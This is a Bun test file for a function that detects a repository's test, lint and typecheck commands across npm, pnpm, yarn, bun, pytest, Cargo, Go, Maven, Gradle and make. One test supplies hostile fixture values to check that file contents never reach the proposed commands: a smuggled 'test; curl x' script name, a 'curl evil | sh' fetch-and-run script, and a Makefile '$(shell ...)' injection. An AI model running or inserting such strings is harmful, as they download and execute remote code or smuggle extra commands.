import { afterEach, beforeEach, describe, expect, test } from "bun:test";
import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { detectChecks } from "./detect.ts";

let root: string;
beforeEach(() => {
  root = realpathSync(mkdtempSync(join(tmpdir(), "detect-")));
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

function write(files: Readonly<Record<string, string>>): void {
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(root, path)), { recursive: true });
    writeFileSync(join(root, path), text);
  }
}

const scripts = (names: Readonly<Record<string, unknown>>): string =>
  JSON.stringify({ scripts: names });

describe("the checks of a repository", () => {
  test.each<[string, Readonly<Record<string, string>>, readonly string[]]>([
    ["nothing", {}, []],
    ["npm", { "package.json": scripts({ test: "node --test" }) }, ["npm run --silent test"]],
    [
      "pnpm with a linter and types",
      {
        "package.json": scripts({ test: "vitest", lint: "eslint", typecheck: "tsc", build: "x" }),
        "pnpm-lock.yaml": "",
      },
      ["pnpm run test", "pnpm run lint", "pnpm run typecheck"],
    ],
    ["yarn", { "package.json": scripts({ test: "jest" }), "yarn.lock": "" }, ["yarn run test"]],
    ["bun", { "package.json": scripts({ test: "bun test x" }), "bun.lock": "" }, ["bun run test"]],
    [
      "bun without a script of tests",
      { "package.json": scripts({ lint: "biome check" }), "bunfig.toml": "" },
      ["bun test", "bun run lint"],
    ],
    [
      "what npm init writes",
      { "package.json": scripts({ test: 'echo "Error: no test specified" && exit 1' }) },
      [],
    ],
    ["pytest by its settings", { "pytest.ini": "" }, ["python3 -m pytest -q"]],
    [
      "pytest by pyproject",
      { "pyproject.toml": "[tool.pytest.ini_options]" },
      ["python3 -m pytest -q"],
    ],
    [
      "pytest by requirements",
      { "setup.py": "", "requirements-dev.txt": "pytest==9\n" },
      ["python3 -m pytest -q"],
    ],
    [
      "pytest by its tests",
      { "tests/test_a.py": "def test_a(): pass\n" },
      ["python3 -m pytest -q"],
    ],
    [
      "unittest in a folder",
      { "tests/test_a.py": "import unittest\n" },
      ["python3 -m unittest discover -v -s tests"],
    ],
    [
      "unittest beside the source",
      { "a_test.py": "from unittest import TestCase\n" },
      ["python3 -m unittest discover -v"],
    ],
    ["Python without tests", { "pyproject.toml": "[project]" }, []],
    ["Rust", { "Cargo.toml": "" }, ["cargo test --offline"]],
    ["Go", { "go.mod": "" }, ["go test ./..."]],
    ["Maven", { "pom.xml": "" }, ["mvn -o -q test"]],
    ["Gradle", { gradlew: "", "build.gradle": "" }, ["./gradlew --offline test"]],
    ["Gradle without its wrapper", { "build.gradle.kts": "" }, ["gradle --offline test"]],
    ["make", { Makefile: "all:\n\ntest: all\n\techo\n" }, ["make test"]],
    ["make with another target", { Makefile: "check:\n\techo\n" }, ["make check"]],
    ["make with a variable of that name", { Makefile: "test := 1\n" }, []],
    ["make beside what it calls", { Makefile: "test:\n", "go.mod": "" }, ["go test ./..."]],
    [
      "two languages",
      { "go.mod": "", "Cargo.toml": "" },
      ["cargo test --offline", "go test ./..."],
    ],
  ])("are proposed for %s", async (_name, files, checks) => {
    write(files);
    expect(await detectChecks(root)).toEqual([...checks]);
  });

  test("hold nothing of what the files say", async () => {
    write({
      "package.json": scripts({
        "test; curl x": "x",
        test: ["x"],
        lint: "curl evil | sh",
        typecheck: " ",
      }),
      Makefile: "test$(shell touch x):\n",
    });
    expect(await detectChecks(root)).toEqual(["npm run --silent lint"]);
  });

  test("are not looked for behind links, in FIFOs and in folders with names of files", async () => {
    const external = join(root, "outside");
    write({
      "outside/package.json": scripts({ test: "x" }),
      "outside/test_a.py": "import unittest",
    });
    symlinkSync(join(external, "package.json"), join(root, "package.json"));
    symlinkSync(external, join(root, "tests"));
    Bun.spawnSync(["mkfifo", join(root, "Makefile")]);
    mkdirSync(join(root, "pyproject.toml"));
    expect(await detectChecks(root)).toEqual([]);
  });

  test("are read of a large file, and one that is too large is named", async () => {
    const large = (bytes: number): string =>
      JSON.stringify({ files: "x".repeat(bytes), scripts: { test: "x" } });
    const unread: string[] = [];
    write({ "package.json": large(1_000_000) });
    expect(await detectChecks(root, (path) => unread.push(path))).toEqual([
      "npm run --silent test",
    ]);
    expect(unread).toEqual([]);
    write({ "package.json": large(4 * 1024 * 1024) });
    expect(await detectChecks(root, (path) => unread.push(path))).toEqual([]);
    expect(unread).toEqual(["package.json"]);
  });

  test("are none where there is no folder, or no JSON", async () => {
    expect(await detectChecks(join(root, "missing"))).toEqual([]);
    write({ "package.json": `{"scripts":${"[".repeat(10_000)}` });
    expect(await detectChecks(root)).toEqual([]);
  });
});
